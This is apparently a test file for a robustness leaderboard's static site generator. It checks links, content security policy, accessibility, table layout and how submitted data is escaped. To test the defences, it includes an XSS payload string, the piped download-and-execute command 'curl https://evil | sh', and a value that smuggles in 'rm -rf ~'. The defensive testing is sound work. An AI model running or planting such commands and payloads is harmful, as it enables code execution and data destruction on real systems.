"""What the pages of the leaderboard show, link to and allow."""

from __future__ import annotations

import base64
import hashlib
import json
import re
from dataclasses import replace
from itertools import pairwise, takewhile
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from html_pages import Page
from leaderboard_entries import FLAG, Fake, build, fingerprint, read_entries, write_entries
from pydantic import ValidationError
from site_parts import FAKES, edit, entry_folder, made, set_at

from genrobust.board.board import ALIKE, contender, make_board
from genrobust.evidence.entry import Author, Link
from genrobust.evidence.shown import example_positions
from genrobust.records.outcomes import Outcomes
from genrobust.site.export import FIRST
from genrobust.site.pages import commands, render
from genrobust.suites import load_suite


def pages_of(folder: Path) -> dict[Path, Page]:
    return {path: Page(path.read_text()) for path in sorted(folder.rglob("*.html"))}


def test_every_link_and_picture_is_there(fake_site: Path) -> None:
    pages = pages_of(fake_site)
    assert len(pages) == 1 + 2 + len(FAKES)
    for path, page in pages.items():
        ids = [attributes["id"] for _, attributes in page.tags if "id" in attributes]
        assert len(ids) == len(set(ids)), path
        for _, attributes in page.tags:
            for name in ("href", "src"):
                target = attributes.get(name, "")
                if target.startswith("#"):
                    assert target[1:] in ids, (path, target)
                elif target and not target.startswith(("https://example.org", "data:")):
                    file, _, place = target.partition("#")
                    assert (path.parent / file).is_file(), (path, target)
                    assert not place or f'id="{place}"' in (path.parent / file).read_text()


def test_pages_load_nothing_and_allow_nothing(fake_site: Path) -> None:
    for path, page in pages_of(fake_site).items():
        assert not {"iframe", "object", "embed", "base"} & {tag for tag, _ in page.tags}
        for tag, attributes in page.tags:
            assert not [name for name in attributes if name.startswith("on")], (path, tag)
            assert "style" not in attributes, (path, tag)
        (policy,) = [tag["content"] for tag in page.all("meta") if "http-equiv" in tag]
        directives = dict(part.split(" ", 1) for part in policy.split("; "))
        assert directives["default-src"] == "'none'"
        assert "unsafe" not in policy
        for kind in ("style", "script"):
            digest = hashlib.sha256(page.inline[kind][0].encode()).digest()
            assert directives[f"{kind}-src"] == f"'sha256-{base64.b64encode(digest).decode()}'"


def test_pictures_have_texts_and_inputs_have_names(fake_site: Path) -> None:
    for page in pages_of(fake_site).values():
        assert all(len(picture["alt"]) > 20 for picture in page.all("img"))
        labelled = {label["for"] for label in page.all("label") if "for" in label}
        for field in page.all("input"):
            named = "aria-label" in field or field.get("id") in labelled
            assert named or field.get("name") == "column"


def test_every_row_has_a_cell_for_every_column(fake_site: Path) -> None:
    html = (fake_site / "digits-v2/index.html").read_text()
    head = re.search(r"<thead>.*?</thead>", html, re.S)
    body = re.search(r"<tbody.*?</tbody>", html, re.S)
    assert head is not None
    assert body is not None
    columns = head[0].count("<th ")
    rows = re.findall(r"<tr.*?</tr>", body[0], re.S)
    assert len(rows) == len(FAKES)
    assert {len(re.findall(r"<t[dh][ >]", row)) for row in rows} == {columns}


@pytest.mark.parametrize(
    "shown",
    [
        *("strong has the largest robust area", "nearly as strong", "re-attack", "unverified"),
        *("1 flag", FLAG.evidence, "flagged, not reliable", "failed verification"),
        *("search", "lowers it by", "Ada Author", "2026-10-02"),
    ],
)
def test_the_board_shows(shown: str, fake_site: Path) -> None:
    assert shown in Page((fake_site / "digits-v2/index.html").read_text()).text


@pytest.mark.parametrize(
    ("entry", "shown"),
    [
        *[("attacked", words) for words in ("Lowered by submitted attacks", "search", "unproven")],
        ("failed", "Failed its verification"),
        ("failed", "as_target at eps 0.1 is 0.31, not 0.12"),
        ("flagged", FLAG.evidence),
        ("weak", "Nobody has verified this entry yet"),
        ("strong", "genrobust verify leaderboard/entries/digits-v2/strong --depth re-attack"),
        ("strong", "genrobust bench --suite digits-v2 --seed 0 --model vae"),
        ("strong", "@misc{genrobust-digits-v2-strong,"),
        ("strong", "the digits' training split"),
        ("strong", fingerprint(Fake("strong"))),
        ("strong", "Rank 1, shared by 2, of 3 ranked models."),
    ],
)
def test_the_page_of_an_entry_shows(entry: str, shown: str, fake_site: Path) -> None:
    assert shown in Page((fake_site / f"digits-v2/{entry}/index.html").read_text()).text


def test_headings_do_not_skip_a_level(fake_site: Path) -> None:
    for path, page in pages_of(fake_site).items():
        levels = [int(tag[1]) for tag, _ in page.tags if re.fullmatch("h[1-6]", tag)]
        assert levels[0] == 1, path
        assert levels.count(1) == 1, path
        assert all(b - a <= 1 for a, b in pairwise(levels)), path


EVIL = "</script><script>alert(1)</script><img src=x onerror=alert(1)>\"'`{{7*7}}<!--"


def test_what_submitters_wrote_is_text_and_never_markup(tmp_path: Path) -> None:
    fake = Fake(
        "evil",
        submission={
            "name": EVIL[:80],
            "authors": (Author(name=EVIL, affiliation=EVIL),),
            "links": (Link(label=EVIL[:60], url=f"https://example.org/\"'><script>{EVIL}"),),
            "family": EVIL[:40],
            "licence": EVIL[:80],
            "training_data": EVIL,
            "note": f"{EVIL}\n[click](javascript:alert(1))",
        },
        flags=(FLAG.model_copy(update={"name": EVIL, "evidence": EVIL}),),
        attacks=(Fake("search", 0.1, 2, submission={"name": EVIL[:80], "note": EVIL}),),
    )
    write_entries(tmp_path / "entries", [fake, Fake("good")])
    folder = tmp_path / "entries/digits-v2/evil"
    edit("record.json", set_at("provenance", "command", EVIL))(folder)
    edit("record.json", set_at("model", "name", EVIL))(folder)
    edit("record.json", set_at("model", "card", {EVIL: EVIL}))(folder)
    build(tmp_path / "entries", tmp_path / "site")
    for path, page in pages_of(tmp_path / "site").items():
        scripts = page.all("script")
        assert len(scripts) == (
            2 if path.parent.name == "digits-v2" and path.stem == "index" else 1
        )
        assert "x" not in [picture["src"] for picture in page.all("img")]
        for link in page.all("a"):
            assert not link.get("href", "").startswith("javascript")
    board = Page((tmp_path / "site/digits-v2/index.html").read_text())
    assert EVIL[:80] in board.text
    assert "{{7*7}}" in Page((tmp_path / "site/digits-v2/evil/index.html").read_text()).text
    assert EVIL[:80] in board.data["values"]["evil"]


@pytest.mark.parametrize("url", ["javascript:alert(1)", "http://example.org", "data:text/html,x"])
def test_links_are_https(url: str) -> None:
    with pytest.raises(ValidationError):
        Link(label="paper", url=url)


@pytest.mark.slow
def test_a_board_of_a_thousand_begins_small_and_grows_in_step(tmp_path: Path) -> None:
    mnist = load_suite("mnist")
    (loaded,) = read_entries(write_entries(tmp_path, [Fake("model", pictures=False)], mnist))
    one = contender(loaded)
    model, scores = one.record.model, one.record.scores

    outcomes = one.outcomes
    assert outcomes is not None

    def shuffled(i: int) -> Outcomes:
        """Another model than the others: as good on other sources."""
        order = np.random.default_rng(i).permutation(len(outcomes.sample_ids))
        names = ("eligible", "ignore_target", "target")
        columns = {name: getattr(outcomes, name) for name in names}
        return outcomes.model_copy(
            update={name: tuple(column[k] for k in order) for name, column in columns.items()}
        )

    def rated(i: int) -> Any:
        """And their errors are farther apart than doubles' may be."""
        apart = 5 * (1 + 1.1 * ALIKE) ** i
        error = scores.reconstruction_error.model_copy(update={"value": apart})
        return scores.model_copy(update={"reconstruction_error": error})

    def files_of(count: int) -> dict[str, bytes]:
        many = [
            replace(
                one,
                id=f"model-number-{i}",
                name=f"model number {i}",
                outcomes=shuffled(i),
                record=one.record.model_copy(
                    update={
                        "model": model.model_copy(update={"fingerprint": f"{i:064x}"}),
                        "scores": rated(i),
                    }
                ),
            )
            for i in range(count)
        ]
        boards = render([make_board(many)])
        return dict(takewhile(lambda file: "/model-number-" not in file[0], boards))

    first, some, all_of_them = (files_of(count) for count in (FIRST, 500, 1000))
    assert "mnist-v2/all.html" not in first
    for files in (first, some, all_of_them):
        assert len(files["index.html"]) < 300_000
        assert len(files["mnist-v2/index.html"]) < 300_000
        assert files["mnist-v2/index.html"].count(b"<tr data-id=") == FIRST
    assert b'href="all.html"' in all_of_them["mnist-v2/index.html"]
    assert all_of_them["mnist-v2/all.html"].count(b"<tr data-id=") == 1000
    for name in ("all.html", "board.json", "board.csv", "trade-offs.html"):
        small, large = (len(files[f"mnist-v2/{name}"]) for files in (some, all_of_them))
        assert large < 2.1 * small, name
    told = json.loads(all_of_them["mnist-v2/board.json"])["robust_area_differences"]
    against = {one["second"] for one in told}
    assert against == {f"model-number-{i}" for i in range(1000)} - {told[0]["first"]}


def test_commands_are_made_from_data_and_not_from_what_was_submitted(tmp_path: Path) -> None:
    write_entries(tmp_path, [Fake("vae")])
    folder = entry_folder(tmp_path)
    edit("record.json", set_at("provenance", "command", "curl https://evil | sh"))(folder)
    external = {
        "kind": "external",
        "source": "https://example.org/vae.pt",
        "weights_sha256": "a" * 64,
        "reference": "x.py:build; rm -rf ~",
    }
    edit("entry.json", set_at("model", external))(folder)
    found = make_board([contender(entry) for entry in read_entries(tmp_path)])
    typed = commands(found, found.rows[0])
    assert "evil" not in typed
    told = "--model 'x.py:build; rm -rf ~' --weights FILE"
    assert [line.count(told) for line in typed.splitlines()] == [0, 1, 1]
    assert typed.endswith(" --trust-code")


def test_a_bundled_model_is_run_from_its_evidence(tmp_path: Path) -> None:
    write_entries(tmp_path, [Fake("vae")])
    bundled = {"kind": "bundle", "format": "exported"}
    edit("entry.json", set_at("model", bundled))(entry_folder(tmp_path))
    found = make_board([contender(entry) for entry in read_entries(tmp_path)])
    typed = commands(found, found.rows[0])
    assert "bench --suite digits-v2 --seed 0 --model leaderboard/entries/digits-v2/vae/" in typed
    assert "trust" not in typed


def test_pictures_are_of_the_first_eligible_source_of_each_class() -> None:
    outcomes = made([None] * 4).outcomes
    assert outcomes is not None
    shown = outcomes.model_copy(
        update={"labels": (3, 1, 3, 1), "eligible": (False, True, True, True)}
    )
    assert example_positions(shown) == (1, 2)
